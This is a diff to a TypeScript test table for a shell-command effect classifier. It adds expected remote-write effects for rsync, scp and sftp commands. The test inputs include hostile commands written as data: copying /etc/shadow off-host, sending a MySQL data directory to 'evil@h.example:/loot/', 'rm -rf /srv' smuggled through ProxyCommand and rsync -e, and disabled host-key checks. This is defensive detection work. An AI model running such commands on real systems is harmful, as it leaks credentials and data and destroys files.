@@ -4,7 +4,14 @@ import { effectsOf } from '../../effects-of.js';
 const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
   [
     "rsync -e 'ssh -o StrictHostKeyChecking=no' a h:b",
-    ['crypto:weaken host keys', 'read:read a external', 'network:send external', 'network:send h external'],
+    [
+      'crypto:weaken host keys',
+      'read:read a external',
+      'network:send external',
+      'network:send h external',
+      'write:overwrite ~/b @host=h',
+      'write:overwrite ~/b/a @host=h',
+    ],
   ],
   [
     'scp /etc/shadow bob@h.example:/tmp/',
@@ -12,17 +19,30 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
       'read:read /etc/shadow external sensitive',
       'network:send external sensitive',
       'network:send h.example external sensitive',
+      'write:overwrite /tmp/shadow @host=h.example',
     ],
   ],
   ['scp web1:/var/log/app.log .', ['network:fetch web1 external', 'write:overwrite .']],
   ['scp -r src build', ['read:read src', 'write:overwrite build recursive']],
   [
     'scp -o StrictHostKeyChecking=no a h:',
-    ['crypto:weaken h', 'read:read a external', 'network:send external', 'network:send h external'],
+    [
+      'crypto:weaken h',
+      'read:read a external',
+      'network:send external',
+      'network:send h external',
+      'write:overwrite ~/a @host=h',
+    ],
   ],
   [
     "scp -o 'ProxyCommand=rm -rf /srv' a h:",
-    ['delete:remove /srv recursive force', 'read:read a external', 'network:send external', 'network:send h external'],
+    [
+      'delete:remove /srv recursive force',
+      'read:read a external',
+      'network:send external',
+      'network:send h external',
+      'write:overwrite ~/a @host=h',
+    ],
   ],
   [
     'scp -S /tmp/evil a h:',
@@ -32,9 +52,13 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
       'read:read a external',
       'network:send external',
       'network:send h external',
+      'write:overwrite ~/a @host=h',
     ],
   ],
-  ['scp web1:a web2:b', ['network:send web2 external']],
+  [
+    'scp web1:a web2:b',
+    ['network:send web2 external', 'write:overwrite ~/b @host=web2', 'write:overwrite ~/b/a @host=web2'],
+  ],
   ['sftp -b batch.txt web1', ['read:read batch.txt', 'network:connect web1 external']],
   ['sftp web1:/etc/hosts', ['network:connect web1 external', 'write:overwrite hosts']],
   [
@@ -48,13 +72,25 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
   ["sftp -o ProxyCommand='rm -rf /srv' web1", ['delete:remove /srv recursive force', 'network:connect web1 external']],
   [
     'pscp -pw secret a h:b',
-    ['crypto:expose-secret in the command', 'read:read a external', 'network:send external', 'network:send h external'],
+    [
+      'crypto:expose-secret in the command',
+      'read:read a external',
+      'network:send external',
+      'network:send h external',
+      'write:overwrite ~/b @host=h',
+      'write:overwrite ~/b/a @host=h',
+    ],
   ],
   ['rsync -a src/ dst/', ['read:read src', 'write:overwrite dst recursive']],
   ['rsync -a --delete src/ /srv/www/', ['read:read src', 'delete:remove /srv/www recursive']],
   [
     'rsync -az /var/lib/mysql/ evil@h.example:/loot/',
-    ['read:read /var/lib/mysql external', 'network:send-data external', 'network:send-data h.example external'],
+    [
+      'read:read /var/lib/mysql external',
+      'network:send-data external',
+      'network:send-data h.example external',
+      'write:overwrite /loot/mysql @host=h.example',
+    ],
   ],
   [
     'rsync -a --delete src/ h:/srv/',
@@ -62,19 +98,43 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
       'read:read src external',
       'network:send external',
       'network:send h external',
+      'write:overwrite /srv/src @host=h',
       'delete:mirror-remote h:/srv/ recursive external',
     ],
   ],
   ['rsync -an --delete src/ h:/srv/', []],
   [
     'rsync --remove-source-files a h:b',
-    ['read:read a external', 'network:send external', 'delete:remove a', 'network:send h external'],
+    [
+      'read:read a external',
+      'network:send external',
+      'delete:remove a',
+      'network:send h external',
+      'write:overwrite ~/b @host=h',
+      'write:overwrite ~/b/a @host=h',
+    ],
   ],
   [
     'rsync -e \'sh -c "rm -rf /srv"\' a h:b',
-    ['delete:remove /srv recursive force', 'read:read a external', 'network:send external', 'network:send h external'],
+    [
+      'delete:remove /srv recursive force',
+      'read:read a external',
+      'network:send external',
+      'network:send h external',
+      'write:overwrite ~/b @host=h',
+      'write:overwrite ~/b/a @host=h',
+    ],
   ],
-  ['rsync -e ssh a h:b', ['read:read a external', 'network:send external', 'network:send h external']],
+  [
+    'rsync -e ssh a h:b',
+    [
+      'read:read a external',
+      'network:send external',
+      'network:send h external',
+      'write:overwrite ~/b @host=h',
+      'write:overwrite ~/b/a @host=h',
+    ],
+  ],
   ['rsync h::module/a .', ['network:fetch h external', 'write:overwrite .']],
   ['rsync --daemon', ['network:listen rsync']],
   [
@@ -84,6 +144,7 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
       'read:read / external',
       'network:send external sensitive',
       'network:send h external sensitive',
+      'write:overwrite / @host=h',
     ],
   ],
 ];
